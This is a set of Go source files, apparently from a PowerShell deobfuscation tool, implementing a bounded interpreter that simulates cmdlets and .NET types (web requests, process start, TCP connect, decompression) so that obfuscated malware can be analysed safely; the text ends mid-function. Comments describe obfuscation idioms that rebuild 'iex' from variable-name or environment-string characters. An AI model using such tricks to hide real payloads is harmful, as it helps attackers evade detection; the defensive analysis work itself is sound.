	return uniqueValues(input), nil
}

func cmdWriteOutput(_ *Interp, args []commandArg, input []any, _ *scope) ([]any, error) {
	out := append([]any(nil), input...)
	for _, a := range args {
		if a.isParam {
			continue
		}
		out = append(out, enumerate(a.value)...)
	}
	return out, nil
}

func cmdWriteHost(in *Interp, args []commandArg, input []any, _ *scope) ([]any, error) {
	var parts []string
	for _, a := range args {
		if a.isParam {
			// Skip -ForegroundColor and friends along with their value.
			continue
		}
		parts = append(parts, ToString(a.value))
	}
	for _, v := range input {
		parts = append(parts, ToString(v))
	}
	in.writeConsole(strings.Join(parts, " "))
	return nil, nil
}

func cmdSwallow(_ *Interp, _ []commandArg, _ []any, _ *scope) ([]any, error) {
	return nil, nil
}

func cmdNoop(_ *Interp, _ []commandArg, input []any, _ *scope) ([]any, error) {
	_ = input
	return nil, nil
}

func cmdOutNull(_ *Interp, _ []commandArg, _ []any, _ *scope) ([]any, error) {
	return nil, nil
}

func cmdOutString(_ *Interp, args []commandArg, input []any, _ *scope) ([]any, error) {
	parts := make([]string, len(input))
	for i, v := range input {
		parts[i] = ToString(v)
	}
	s := strings.Join(parts, "\r\n")
	if _, stream := paramValue(args, "stream"); stream {
		out := make([]any, len(parts))
		for i, p := range parts {
			out[i] = p
		}
		return out, nil
	}
	return []any{s + "\r\n"}, nil
}

func cmdOutHost(in *Interp, _ []commandArg, input []any, _ *scope) ([]any, error) {
	for _, v := range input {
		in.writeConsole(ToString(v))
	}
	return nil, nil
}

func cmdOutFile(in *Interp, args []commandArg, input []any, _ *scope) ([]any, error) {
	path := ""
	if v, ok := paramValue(args, "filepath"); ok {
		path = ToString(v)
	} else if pos := positionals(args); len(pos) > 0 {
		path = ToString(pos[0])
	}
	return nil, in.host.WriteFile(path, ToString(Unwrap(input)))
}

func cmdSetContent(in *Interp, args []commandArg, input []any, _ *scope) ([]any, error) {
	pos := positionals(args)
	path := ""
	content := ToString(Unwrap(input))
	if v, ok := paramValue(args, "path"); ok {
		path = ToString(v)
	} else if len(pos) > 0 {
		path = ToString(pos[0])
	}
	if v, ok := paramValue(args, "value"); ok {
		content = ToString(v)
	} else if len(pos) > 1 {
		content = ToString(pos[1])
	}
	return nil, in.host.WriteFile(path, content)
}

func cmdGetContent(in *Interp, args []commandArg, _ []any, _ *scope) ([]any, error) {
	path := ""
	if v, ok := paramValue(args, "path"); ok {
		path = ToString(v)
	} else if pos := positionals(args); len(pos) > 0 {
		path = ToString(pos[0])
	}
	return nil, fmt.Errorf("%w: Get-Content %q", ErrUnsupported, path)
}

func cmdRemoveItem(in *Interp, args []commandArg, _ []any, _ *scope) ([]any, error) {
	path := ""
	if v, ok := paramValue(args, "path"); ok {
		path = ToString(v)
	} else if pos := positionals(args); len(pos) > 0 {
		path = ToString(pos[0])
	}
	return nil, in.host.RemoveItem(path)
}

func cmdNewItem(_ *Interp, args []commandArg, _ []any, _ *scope) ([]any, error) {
	o := NewObject("System.IO.FileInfo")
	if pos := positionals(args); len(pos) > 0 {
		o.Props["fullname"] = ToString(pos[0])
		o.Props["name"] = ToString(pos[0])
	}
	return []any{o}, nil
}

func cmdGetVariable(in *Interp, args []commandArg, _ []any, sc *scope) ([]any, error) {
	pos := positionals(args)
	if len(pos) == 0 {
		return nil, nil
	}
	pattern := ToString(pos[0])
	_, valueOnly := paramValue(args, "valueonly")
	names := in.matchVariableNames(pattern, sc)
	var out []any
	for _, name := range names {
		value, _ := in.lookupVariableLenient(name, sc)
		if valueOnly {
			out = append(out, value)
			continue
		}
		o := NewObject("System.Management.Automation.PSVariable")
		o.Props["name"] = name
		o.Props["value"] = value
		out = append(out, o)
	}
	if len(out) == 0 {
		return nil, fmt.Errorf("psinterp: variable %q not found", pattern)
	}
	return out, nil
}

// builtinVariableNames are discoverable via Get-Variable wildcards; the
// exact canonical casing matters because obfuscators index into the
// names (e.g. (GV '*mdr*').Name[3,11,2] -join ” is "iex").
var builtinVariableNames = []string{
	"MaximumDriveCount", "MaximumAliasCount", "MaximumErrorCount",
	"MaximumFunctionCount", "MaximumHistoryCount", "MaximumVariableCount",
	"PSHOME", "ShellId", "PSVersionTable", "PWD", "HOME", "PID",
	"ExecutionContext", "VerbosePreference", "ErrorActionPreference",
}

func (in *Interp) matchVariableNames(pattern string, sc *scope) []string {
	if !strings.ContainsAny(pattern, "*?") {
		return []string{pattern}
	}
	// Wildcard enumeration walks Go maps, whose iteration order is
	// deliberately randomized: the result order is nondeterministic.
	in.markImpure("wildcard variable enumeration: " + pattern)
	re, err := compileWildcard(pattern, false)
	if err != nil {
		return nil
	}
	var out []string
	for _, name := range builtinVariableNames {
		if re.MatchString(name) {
			out = append(out, name)
		}
	}
	for cur := sc; cur != nil; cur = cur.parent {
		for name := range cur.vars {
			if re.MatchString(name) {
				out = append(out, name)
			}
		}
	}
	return out
}

// lookupVariableLenient reads a variable without strict-mode errors,
// also resolving the discovery-only builtins.
func (in *Interp) lookupVariableLenient(name string, sc *scope) (any, bool) {
	key := normalizeVarName(name)
	if v, ok := sc.get(key); ok {
		in.noteVarRead(key)
		return v, true
	}
	if v, ok := in.automaticVariable(key); ok {
		return v, true
	}
	switch key {
	case "maximumdrivecount", "maximumaliascount", "maximumerrorcount",
		"maximumfunctioncount", "maximumvariablecount":
		return int64(4096), true
	case "maximumhistorycount":
		return int64(4096), true
	}
	// The not-found answer depends on the absence of context state,
	// which the read-set fingerprint cannot express.
	in.markImpure("undefined variable read: $" + key)
	return nil, false
}

func cmdSetVariable(in *Interp, args []commandArg, _ []any, sc *scope) ([]any, error) {
	pos := positionals(args)
	var name string
	var value any
	if v, ok := paramValue(args, "name"); ok {
		name = ToString(v)
	} else if len(pos) > 0 {
		name = ToString(pos[0])
		pos = pos[1:]
	}
	if v, ok := paramValue(args, "value"); ok {
		value = v
	} else if len(pos) > 0 {
		value = pos[0]
	}
	if name == "" {
		return nil, fmt.Errorf("psinterp: Set-Variable requires a name")
	}
	sc.set(normalizeVarName(name), value)
	return nil, nil
}

func cmdRemoveVariable(_ *Interp, args []commandArg, _ []any, sc *scope) ([]any, error) {
	for _, v := range positionals(args) {
		name := normalizeVarName(ToString(v))
		for cur := sc; cur != nil; cur = cur.parent {
			delete(cur.vars, name)
		}
	}
	return nil, nil
}

func cmdGetCommand(_ *Interp, args []commandArg, _ []any, _ *scope) ([]any, error) {
	pos := positionals(args)
	if len(pos) == 0 {
		return nil, nil
	}
	pattern := ToString(pos[0])
	var names []string
	if strings.ContainsAny(pattern, "*?") {
		re, err := compileWildcard(pattern, false)
		if err != nil {
			return nil, err
		}
		for _, c := range psnames.KnownCmdlets() {
			if re.MatchString(c) {
				names = append(names, c)
			}
		}
	} else if c, ok := psnames.CanonicalCmdlet(pattern); ok {
		names = []string{c}
	}
	var out []any
	for _, name := range names {
		o := NewObject("System.Management.Automation.CmdletInfo")
		o.Props["name"] = name
		out = append(out, o)
	}
	if len(out) == 0 {
		return nil, fmt.Errorf("psinterp: command %q not found", pattern)
	}
	return out, nil
}

func cmdGetAlias(_ *Interp, args []commandArg, _ []any, _ *scope) ([]any, error) {
	pos := positionals(args)
	if len(pos) == 0 {
		return nil, nil
	}
	name := ToString(pos[0])
	target := psnames.ResolveAlias(name)
	if target == "" {
		return nil, fmt.Errorf("psinterp: alias %q not found", name)
	}
	o := NewObject("System.Management.Automation.AliasInfo")
	o.Props["name"] = strings.ToLower(name)
	o.Props["definition"] = target
	o.Props["displayname"] = strings.ToLower(name) + " -> " + target
	return []any{o}, nil
}

func cmdGetItem(in *Interp, args []commandArg, _ []any, sc *scope) ([]any, error) {
	pos := positionals(args)
	if len(pos) == 0 {
		return nil, nil
	}
	path := ToString(pos[0])
	lower := strings.ToLower(path)
	switch {
	case strings.HasPrefix(lower, "env:"):
		in.markImpure("env read: " + lower)
		name := strings.TrimPrefix(lower, "env:")
		if v, ok := in.env[name]; ok {
			o := NewObject("System.Collections.DictionaryEntry")
			o.Props["name"] = strings.ToUpper(name)
			o.Props["key"] = strings.ToUpper(name)
			o.Props["value"] = v
			return []any{o}, nil
		}
		return nil, fmt.Errorf("psinterp: env item %q not found", path)
	case strings.HasPrefix(lower, "variable:"):
		name := strings.TrimPrefix(lower, "variable:")
		if v, ok := in.lookupVariableLenient(name, sc); ok {
			o := NewObject("System.Management.Automation.PSVariable")
			o.Props["name"] = name
			o.Props["value"] = v
			return []any{o}, nil
		}
		return nil, fmt.Errorf("psinterp: variable item %q not found", path)
	}
	return nil, fmt.Errorf("%w: Get-Item %q", ErrUnsupported, path)
}

func cmdInvokeCommand(in *Interp, args []commandArg, input []any, sc *scope) ([]any, error) {
	var sb *ScriptBlockValue
	if v, ok := paramValue(args, "scriptblock"); ok {
		sb, _ = v.(*ScriptBlockValue)
	}
	if sb == nil {
		for _, a := range positionals(args) {
			if b, ok := a.(*ScriptBlockValue); ok {
				sb = b
				break
			}
		}
	}
	if sb == nil {
		return nil, fmt.Errorf("%w: Invoke-Command without script block", ErrUnsupported)
	}
	var sbArgs []any
	if v, ok := paramValue(args, "argumentlist"); ok {
		sbArgs = ToArray(v)
	}
	return in.InvokeScriptBlock(sb, sbArgs, input, sc)
}

func cmdInvokeWebRequest(in *Interp, args []commandArg, _ []any, _ *scope) ([]any, error) {
	uri := ""
	if v, ok := paramValue(args, "uri"); ok {
		uri = ToString(v)
	} else if pos := positionals(args); len(pos) > 0 {
		uri = ToString(pos[0])
	}
	method := "GET"
	if v, ok := paramValue(args, "method"); ok {
		method = strings.ToUpper(ToString(v))
	}
	if v, ok := paramValue(args, "outfile"); ok {
		return nil, in.host.DownloadFile(uri, ToString(v))
	}
	body, err := in.host.WebRequest(method, uri)
	if err != nil {
		return nil, err
	}
	o := NewObject("Microsoft.PowerShell.Commands.WebResponseObject")
	o.Props["content"] = body
	o.Props["statuscode"] = int64(200)
	return []any{o}, nil
}

func cmdStartProcess(in *Interp, args []commandArg, _ []any, _ *scope) ([]any, error) {
	name := ""
	if v, ok := paramValue(args, "filepath"); ok {
		name = ToString(v)
	} else if pos := positionals(args); len(pos) > 0 {
		name = ToString(pos[0])
	}
	var procArgs []string
	if v, ok := paramValue(args, "argumentlist"); ok {
		for _, a := range ToArray(v) {
			procArgs = append(procArgs, ToString(a))
		}
	}
	return nil, in.host.StartProcess(name, procArgs)
}

func cmdBitsTransfer(in *Interp, args []commandArg, _ []any, _ *scope) ([]any, error) {
	src := ""
	dst := ""
	if v, ok := paramValue(args, "source"); ok {
		src = ToString(v)
	} else if pos := positionals(args); len(pos) > 0 {
		src = ToString(pos[0])
	}
	if v, ok := paramValue(args, "destination"); ok {
		dst = ToString(v)
	}
	return nil, in.host.DownloadFile(src, dst)
}

func cmdSplitPath(_ *Interp, args []commandArg, _ []any, _ *scope) ([]any, error) {
	pos := positionals(args)
	if len(pos) == 0 {
		return nil, nil
	}
	p := ToString(pos[0])
	if _, leaf := paramValue(args, "leaf"); leaf {
		if i := strings.LastIndexAny(p, "\\/"); i >= 0 {
			return []any{p[i+1:]}, nil
		}
		return []any{p}, nil
	}
	if i := strings.LastIndexAny(p, "\\/"); i >= 0 {
		return []any{p[:i]}, nil
	}
	return []any{""}, nil
}

func cmdJoinPath(_ *Interp, args []commandArg, _ []any, _ *scope) ([]any, error) {
	pos := positionals(args)
	parent := ""
	child := ""
	if v, ok := paramValue(args, "path"); ok {
		parent = ToString(v)
	} else if len(pos) > 0 {
		parent = ToString(pos[0])
		pos = pos[1:]
	}
	if v, ok := paramValue(args, "childpath"); ok {
		child = ToString(v)
	} else if len(pos) > 0 {
		child = ToString(pos[0])
	}
	return []any{strings.TrimRight(parent, "\\/") + "\\" + strings.TrimLeft(child, "\\/")}, nil
}

func cmdTestPath(_ *Interp, _ []commandArg, _ []any, _ *scope) ([]any, error) {
	return []any{false}, nil
}

func cmdResolvePath(_ *Interp, args []commandArg, _ []any, _ *scope) ([]any, error) {
	if pos := positionals(args); len(pos) > 0 {
		return []any{ToString(pos[0])}, nil
	}
	return nil, nil
}

func cmdGetLocation(_ *Interp, _ []commandArg, _ []any, _ *scope) ([]any, error) {
	o := NewObject("System.Management.Automation.PathInfo")
	o.Props["path"] = "C:\\Users\\user"
	return []any{o}, nil
}

func cmdGetDate(in *Interp, args []commandArg, _ []any, _ *scope) ([]any, error) {
	// Nondeterministic by contract (real PowerShell reads the clock even
	// though the simulation pins it): never cacheable.
	in.markImpure("nondeterminism: get-date")
	// Deterministic timestamp keeps evaluation reproducible.
	if v, ok := paramValue(args, "format"); ok {
		_ = v
		return []any{"2021-01-01"}, nil
	}
	o := NewObject("System.DateTime")
	o.Props["year"] = int64(2021)
	o.Props["month"] = int64(1)
	o.Props["day"] = int64(1)
	o.Props["ticks"] = int64(637450560000000000)
	return []any{o}, nil
}

func cmdGetRandom(in *Interp, args []commandArg, input []any, _ *scope) ([]any, error) {
	// Nondeterministic by contract (the simulation is seeded by the step
	// counter, but real PowerShell is not): never cacheable.
	in.markImpure("nondeterminism: get-random")
	in.steps += 13
	seed := int64(in.steps)*6364136223846793005 + 1442695040888963407
	v := (seed >> 33) & 0x7FFFFFFF
	pool := input
	if len(pool) == 0 {
		if iv, ok := paramValue(args, "inputobject"); ok {
			pool = ToArray(iv)
		}
	}
	if len(pool) > 0 {
		return []any{pool[v%int64(len(pool))]}, nil
	}
	minV := int64(0)
	maxV := int64(0x7FFFFFFF)
	if mv, ok := paramValue(args, "minimum"); ok {
		if n, err := ToInt(mv); err == nil {
			minV = n
		}
	}
	if mv, ok := paramValue(args, "maximum"); ok {
		if n, err := ToInt(mv); err == nil {
			maxV = n
		}
	}
	if maxV <= minV {
		return []any{minV}, nil
	}
	return []any{minV + v%(maxV-minV)}, nil
}

func cmdGetProcess(_ *Interp, _ []commandArg, _ []any, _ *scope) ([]any, error) {
	o := NewObject("System.Diagnostics.Process")
	o.Props["processname"] = "powershell"
	o.Props["id"] = int64(4242)
	return []any{o}, nil
}

func cmdGetHost(_ *Interp, _ []commandArg, _ []any, _ *scope) ([]any, error) {
	o := NewObject("System.Management.Automation.Internal.Host.InternalHost")
	o.Props["name"] = "ConsoleHost"
	o.Props["version"] = "5.1.19041.1"
	return []any{o}, nil
}

func cmdGetExecutionPolicy(_ *Interp, _ []commandArg, _ []any, _ *scope) ([]any, error) {
	return []any{"Unrestricted"}, nil
}

func cmdGetCulture(_ *Interp, _ []commandArg, _ []any, _ *scope) ([]any, error) {
	o := NewObject("System.Globalization.CultureInfo")
	o.Props["name"] = "en-US"
	o.Props["displayname"] = "English (United States)"
	return []any{o}, nil
}

func cmdSelectString(in *Interp, args []commandArg, input []any, _ *scope) ([]any, error) {
	pattern := ""
	if v, ok := paramValue(args, "pattern"); ok {
		pattern = ToString(v)
	} else if pos := positionals(args); len(pos) > 0 {
		pattern = ToString(pos[0])
	}
	re, err := compileRegex(pattern, false)
	if err != nil {
		return nil, err
	}
	var out []any
	for _, item := range input {
		s := ToString(item)
		if re.MatchString(s) {
			out = append(out, s)
		}
	}
	return out, nil
}

func cmdReadHost(_ *Interp, _ []commandArg, _ []any, _ *scope) ([]any, error) {
	return []any{""}, nil
}

func cmdStartSleep(in *Interp, args []commandArg, _ []any, _ *scope) ([]any, error) {
	seconds := 0.0
	if v, ok := paramValue(args, "seconds"); ok {
		if n, err := ToNumber(v); err == nil {
			seconds = toFloat(n)
		}
	} else if v, ok := paramValue(args, "milliseconds"); ok {
		if n, err := ToNumber(v); err == nil {
			seconds = toFloat(n) / 1000
		}
	} else if pos := positionals(args); len(pos) > 0 {
		if n, err := ToNumber(pos[0]); err == nil {
			seconds = toFloat(n)
		}
	}
	in.host.Sleep(seconds)
	return nil, nil
}
