package psinterp

import "sync"

// interpPool recycles interpreter shells — together with their global
// scope map and purity-tracking sets — across piece evaluations. The
// ast phase constructs one interpreter per attempted piece; on hostile
// corpora that is thousands per script, and the allocations (struct,
// scope map, preloaded/read sets) dominated the non-eval cost of a
// piece. Acquire resets a pooled shell to exactly the state New
// establishes, so pooling is invisible to evaluation semantics.
var interpPool = sync.Pool{
	New: func() any { return &Interp{global: newScope(nil)} },
}

// Acquire returns an interpreter initialized for opts, drawing the
// shell from the pool. The caller must Release it after use (and must
// not retain any reference to it afterwards).
func Acquire(opts Options) *Interp {
	in := interpPool.Get().(*Interp)
	in.reset(opts)
	return in
}

// Release returns an interpreter to the pool. References to caller
// values and evaluation products (preloaded variables, decoded
// payloads, console output, a cloned environment) are dropped eagerly
// so an idle pooled shell retains only its empty maps.
func Release(in *Interp) {
	if in == nil {
		return
	}
	clear(in.global.vars)
	clear(in.preloaded)
	clear(in.readPreloaded)
	in.funcs = nil
	in.lastMatches = nil
	in.console.Reset()
	in.env = sharedDefaultEnv
	in.envOwned = false
	in.opts = Options{}
	in.host = nil
	in.impureReason = ""
	interpPool.Put(in)
}
