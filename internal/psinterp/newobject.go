package psinterp

import (
	"fmt"
	"strings"
)

// cmdNewObject implements New-Object for the simulated .NET types used
// by recovery code and malware loaders.
func cmdNewObject(in *Interp, args []commandArg, _ []any, _ *scope) ([]any, error) {
	pos := positionals(args)
	typeName := ""
	if v, ok := paramValue(args, "typename"); ok {
		typeName = ToString(v)
	} else if len(pos) > 0 {
		typeName = ToString(pos[0])
		pos = pos[1:]
	}
	if _, ok := paramValue(args, "comobject"); ok {
		return nil, fmt.Errorf("%w: New-Object -ComObject", ErrUnsupported)
	}
	var ctorArgs []any
	if v, ok := paramValue(args, "argumentlist"); ok {
		ctorArgs = ToArray(v)
	} else if len(pos) > 0 {
		// Positional constructor arguments; a single array argument is
		// the argument list itself.
		if len(pos) == 1 {
			ctorArgs = ToArray(pos[0])
		} else {
			ctorArgs = pos
		}
	}
	obj, err := in.constructObject(typeName, ctorArgs)
	if err != nil {
		return nil, err
	}
	return []any{obj}, nil
}

// constructObject builds a simulated instance of the named .NET type.
func (in *Interp) constructObject(typeName string, args []any) (any, error) {
	t := normalizeTypeName(typeName)
	switch t {
	case "net.webclient":
		return NewObject("System.Net.WebClient"), nil
	case "net.sockets.tcpclient", "sockets.tcpclient":
		o := NewObject("System.Net.Sockets.TcpClient")
		if len(args) >= 2 {
			port, _ := ToInt(args[1])
			if err := in.host.TCPConnect(ToString(args[0]), port); err != nil {
				return nil, err
			}
		}
		return o, nil
	case "io.memorystream":
		if len(args) >= 1 {
			b, err := in.castValue("byte[]", args[0])
			if err != nil {
				return nil, err
			}
			return newMemoryStream(b.(Bytes)), nil
		}
		return newMemoryStream(nil), nil
	case "io.compression.deflatestream", "io.compression.gzipstream":
		algorithm := "deflate"
		name := "System.IO.Compression.DeflateStream"
		if strings.Contains(t, "gzip") {
			algorithm = "gzip"
			name = "System.IO.Compression.GZipStream"
		}
		if len(args) < 1 {
			return nil, fmt.Errorf("%w: %s without stream", ErrUnsupported, name)
		}
		stream, ok := args[0].(*Object)
		if !ok || stream.TypeName != "System.IO.MemoryStream" {
			return nil, fmt.Errorf("%w: %s on %T", ErrUnsupported, name, args[0])
		}
		mode := "decompress"
		if len(args) >= 2 {
			mode = strings.ToLower(ToString(args[1]))
		}
		o := NewObject(name)
		data, _ := stream.Data.(Bytes)
		if mode == "decompress" {
			plain, err := decompress(algorithm, data, in.opts.MaxStringLen)
			if err != nil {
				return nil, err
			}
			if err := in.charge(len(plain)); err != nil {
				return nil, err
			}
			o.Data = plain
		} else {
			packed, err := compress(algorithm, data)
			if err != nil {
				return nil, err
			}
			o.Data = packed
		}
		return o, nil
	case "io.streamreader":
		if len(args) < 1 {
			return nil, fmt.Errorf("%w: StreamReader without stream", ErrUnsupported)
		}
		variant := "utf8"
		if len(args) >= 2 {
			if enc, ok := args[1].(*Object); ok && enc.TypeName == "System.Text.Encoding" {
				variant = ToString(enc.Data)
			}
		}
		o := NewObject("System.IO.StreamReader")
		switch src := args[0].(type) {
		case *Object:
			if b, ok := src.Data.(Bytes); ok {
				o.Data = decodeBytes(variant, b)
				return o, nil
			}
			o.Data = ""
			return o, nil
		case string:
			// StreamReader(path) — no filesystem in the simulation.
			return nil, fmt.Errorf("%w: StreamReader(path)", ErrUnsupported)
		}
		return nil, fmt.Errorf("%w: StreamReader(%T)", ErrUnsupported, args[0])
	case "random":
		o := NewObject("System.Random")
		seed := int64(1)
		if len(args) >= 1 {
			if n, err := ToInt(args[0]); err == nil {
				seed = n
			}
		}
		o.Data = seed
		return o, nil
	case "text.utf8encoding":
		return newEncoding("utf8"), nil
	case "text.unicodeencoding":
		return newEncoding("unicode"), nil
	case "text.asciiencoding":
		return newEncoding("ascii"), nil
	case "text.stringbuilder":
		o := NewObject("System.Text.StringBuilder")
		o.Data = ""
		return o, nil
	case "net.webrequest", "net.httpwebrequest":
		o := NewObject("System.Net.HttpWebRequest")
		if len(args) >= 1 {
			o.Props["requesturi"] = ToString(args[0])
		}
		return o, nil
	case "object":
		return NewObject("System.Object"), nil
	case "collections.arraylist":
		o := NewObject("System.Collections.ArrayList")
		o.Data = []any{}
		return o, nil
	case "security.securestring":
		return &SecureString{}, nil
	case "diagnostics.process":
		return NewObject("System.Diagnostics.Process"), nil
	case "management.automation.pscredential":
		return NewObject("System.Management.Automation.PSCredential"), nil
	case "guid":
		if len(args) >= 1 {
			return ToString(args[0]), nil
		}
		return "00000000-0000-4000-8000-000000000000", nil
	}
	return nil, fmt.Errorf("%w: New-Object %s", ErrUnsupported, typeName)
}
