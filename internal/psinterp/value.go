// Package psinterp evaluates PowerShell AST fragments. It is the Go
// replacement for ScriptBlock.Invoke() and the .NET runtime surface that
// obfuscated scripts rely on for their recovery code: string and array
// operators, format/join/split/replace/bxor, base64 and code-page
// conversion, compression streams, SecureString, and the cmdlets that
// commonly appear in recovery pipelines (ForEach-Object and friends).
//
// The interpreter is deliberately bounded: step budgets, recursion
// limits and output caps make it safe to execute untrusted recovery
// code during deobfuscation.
package psinterp

import (
	"fmt"
	"math"
	"sort"
	"strconv"
	"strings"

	"github.com/invoke-deobfuscation/invokedeob/internal/psast"
	"github.com/invoke-deobfuscation/invokedeob/internal/psparser"
)

// Char is a .NET System.Char value ([char] in PowerShell).
type Char rune

// Bytes is a .NET byte[] value.
type Bytes []byte

// ScriptBlockValue is a { ... } literal value.
type ScriptBlockValue struct {
	// Text is the source of the block including braces.
	Text string
	// Body is the parsed block.
	Body *psast.ScriptBlock
}

func (s *ScriptBlockValue) String() string { return s.Text }

// Hashtable is an ordered PowerShell hashtable.
type Hashtable struct {
	keys   []string
	values map[string]any
}

// NewHashtable returns an empty hashtable.
func NewHashtable() *Hashtable {
	return &Hashtable{values: make(map[string]any)}
}

// Set inserts or replaces a key (case-insensitive).
func (h *Hashtable) Set(key string, v any) {
	k := strings.ToLower(key)
	if _, ok := h.values[k]; !ok {
		h.keys = append(h.keys, key)
	}
	h.values[k] = v
}

// Get returns the value for key.
func (h *Hashtable) Get(key string) (any, bool) {
	v, ok := h.values[strings.ToLower(key)]
	return v, ok
}

// Len returns the number of entries.
func (h *Hashtable) Len() int { return len(h.keys) }

// Keys returns the keys in insertion order.
func (h *Hashtable) Keys() []string { return append([]string(nil), h.keys...) }

// Object is a simulated .NET object instance (WebClient, MemoryStream,
// encodings, ...). Behaviour is dispatched on TypeName in methods.go.
type Object struct {
	TypeName string
	// Props holds simple settable properties.
	Props map[string]any
	// Data carries type-specific payloads (stream bytes, etc).
	Data any
}

// NewObject returns an Object of the given type.
func NewObject(typeName string) *Object {
	return &Object{TypeName: typeName, Props: make(map[string]any)}
}

func (o *Object) String() string {
	// Mirror the .NET ToString overrides PowerShell relies on: command
	// infos stringify to their names, path infos to their paths, regex
	// matches to their values.
	switch o.TypeName {
	case "System.Management.Automation.CmdletInfo",
		"System.Management.Automation.AliasInfo",
		"System.Management.Automation.FunctionInfo":
		if v, ok := o.Props["name"]; ok {
			return ToString(v)
		}
	case "System.Management.Automation.PathInfo":
		if v, ok := o.Props["path"]; ok {
			return ToString(v)
		}
	case "System.Text.RegularExpressions.Match":
		if v, ok := o.Props["value"]; ok {
			return ToString(v)
		}
	}
	return o.TypeName
}

// SecureString is the simulated System.Security.SecureString.
type SecureString struct {
	Plain string
}

func (s *SecureString) String() string { return "System.Security.SecureString" }

// ToString converts a value to its PowerShell string form.
func ToString(v any) string {
	switch x := v.(type) {
	case nil:
		return ""
	case string:
		return x
	case bool:
		if x {
			return "True"
		}
		return "False"
	case int64:
		return strconv.FormatInt(x, 10)
	case int:
		return strconv.Itoa(x)
	case float64:
		return formatFloat(x)
	case Char:
		return string(rune(x))
	case []any:
		parts := make([]string, len(x))
		for i, e := range x {
			parts[i] = ToString(e)
		}
		return strings.Join(parts, " ")
	case Bytes:
		parts := make([]string, len(x))
		for i, b := range x {
			parts[i] = strconv.Itoa(int(b))
		}
		return strings.Join(parts, " ")
	case *ScriptBlockValue:
		return x.Text
	case *Hashtable:
		return "System.Collections.Hashtable"
	case *Object:
		return x.String()
	case *SecureString:
		return x.String()
	default:
		return fmt.Sprint(v)
	}
}

func formatFloat(f float64) string {
	if f == math.Trunc(f) && math.Abs(f) < 1e15 {
		return strconv.FormatFloat(f, 'f', -1, 64)
	}
	return strconv.FormatFloat(f, 'g', -1, 64)
}

// IsStringLike reports whether v renders naturally as a string or number
// (the paper's criterion for a usable recovery result).
func IsStringLike(v any) bool {
	switch v.(type) {
	case string, int64, int, float64, Char, bool:
		return true
	}
	return false
}

// ToBool converts a value using PowerShell truthiness.
func ToBool(v any) bool {
	switch x := v.(type) {
	case nil:
		return false
	case bool:
		return x
	case string:
		return len(x) > 0
	case int64:
		return x != 0
	case int:
		return x != 0
	case float64:
		return x != 0
	case Char:
		return x != 0
	case []any:
		if len(x) == 1 {
			return ToBool(x[0])
		}
		return len(x) > 0
	case Bytes:
		return len(x) > 0
	case *Hashtable:
		return true
	default:
		return v != nil
	}
}

// ToNumber converts a value to int64 or float64 following PowerShell's
// implicit conversions (strings parse as numeric literals, chars become
// their code points).
func ToNumber(v any) (any, error) {
	switch x := v.(type) {
	case int64:
		return x, nil
	case int:
		return int64(x), nil
	case float64:
		return x, nil
	case Char:
		return int64(x), nil
	case bool:
		if x {
			return int64(1), nil
		}
		return int64(0), nil
	case nil:
		return int64(0), nil
	case string:
		n, err := psparser.ParseNumber(strings.TrimSpace(x))
		if err != nil {
			return nil, fmt.Errorf("cannot convert %q to a number", x)
		}
		return n, nil
	case []any:
		if len(x) == 1 {
			return ToNumber(x[0])
		}
	}
	return nil, fmt.Errorf("cannot convert %T to a number", v)
}

// ToInt converts a value to int64.
func ToInt(v any) (int64, error) {
	n, err := ToNumber(v)
	if err != nil {
		return 0, err
	}
	switch x := n.(type) {
	case int64:
		return x, nil
	case float64:
		return int64(math.Round(x)), nil
	}
	return 0, fmt.Errorf("cannot convert %T to an integer", v)
}

// ToArray converts a value to a slice. Scalars become one-element
// slices; nil becomes empty.
func ToArray(v any) []any {
	switch x := v.(type) {
	case nil:
		return nil
	case []any:
		return x
	case Bytes:
		out := make([]any, len(x))
		for i, b := range x {
			out[i] = int64(b)
		}
		return out
	case string:
		return []any{x}
	default:
		return []any{v}
	}
}

// Unwrap collapses pipeline output to PowerShell's convention: empty
// output is nil, one value is the value itself, more stay a slice.
func Unwrap(values []any) any {
	switch len(values) {
	case 0:
		return nil
	case 1:
		return values[0]
	default:
		return values
	}
}

// DeepEqualFold compares two values with PowerShell -eq semantics
// (case-insensitive strings, numeric widening).
func DeepEqualFold(a, b any) bool {
	if sa, ok := a.(string); ok {
		return strings.EqualFold(sa, ToString(b))
	}
	if ca, ok := a.(Char); ok {
		bs := ToString(b)
		return strings.EqualFold(string(rune(ca)), bs)
	}
	na, errA := ToNumber(a)
	nb, errB := ToNumber(b)
	if errA == nil && errB == nil {
		return numericCompare(na, nb) == 0
	}
	return ToString(a) == ToString(b)
}

// numericCompare compares two numbers returning -1, 0 or 1.
func numericCompare(a, b any) int {
	af, aIsFloat := a.(float64)
	bf, bIsFloat := b.(float64)
	if aIsFloat || bIsFloat {
		if !aIsFloat {
			af = float64(a.(int64))
		}
		if !bIsFloat {
			bf = float64(b.(int64))
		}
		switch {
		case af < bf:
			return -1
		case af > bf:
			return 1
		default:
			return 0
		}
	}
	ai := a.(int64)
	bi := b.(int64)
	switch {
	case ai < bi:
		return -1
	case ai > bi:
		return 1
	default:
		return 0
	}
}

// sortValues sorts a slice with PowerShell Sort-Object semantics.
func sortValues(vals []any, descending bool) []any {
	out := append([]any(nil), vals...)
	sort.SliceStable(out, func(i, j int) bool {
		less := compareValues(out[i], out[j]) < 0
		if descending {
			return !less
		}
		return less
	})
	return out
}

// compareValues orders two values: numerically when both are numbers,
// otherwise case-insensitively as strings.
func compareValues(a, b any) int {
	na, errA := ToNumber(a)
	nb, errB := ToNumber(b)
	if errA == nil && errB == nil {
		return numericCompare(na, nb)
	}
	sa := strings.ToLower(ToString(a))
	sb := strings.ToLower(ToString(b))
	switch {
	case sa < sb:
		return -1
	case sa > sb:
		return 1
	default:
		return 0
	}
}
