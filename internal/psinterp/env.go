package psinterp

// defaultEnv returns the simulated Windows environment table. Obfuscated
// scripts commonly slice these strings to rebuild command names (e.g.
// $env:ComSpec[4,24,25] -join ” is "Iex"), so the exact character
// content of the defaults matters.
func defaultEnv() map[string]string {
	return map[string]string{
		"comspec":                "C:\\WINDOWS\\system32\\cmd.exe",
		"windir":                 "C:\\WINDOWS",
		"systemroot":             "C:\\WINDOWS",
		"systemdrive":            "C:",
		"programfiles":           "C:\\Program Files",
		"programfiles(x86)":      "C:\\Program Files (x86)",
		"programdata":            "C:\\ProgramData",
		"public":                 "C:\\Users\\Public",
		"userprofile":            "C:\\Users\\user",
		"username":               "user",
		"userdomain":             "DESKTOP-2C3IQHO",
		"computername":           "DESKTOP-2C3IQHO",
		"temp":                   "C:\\Users\\user\\AppData\\Local\\Temp",
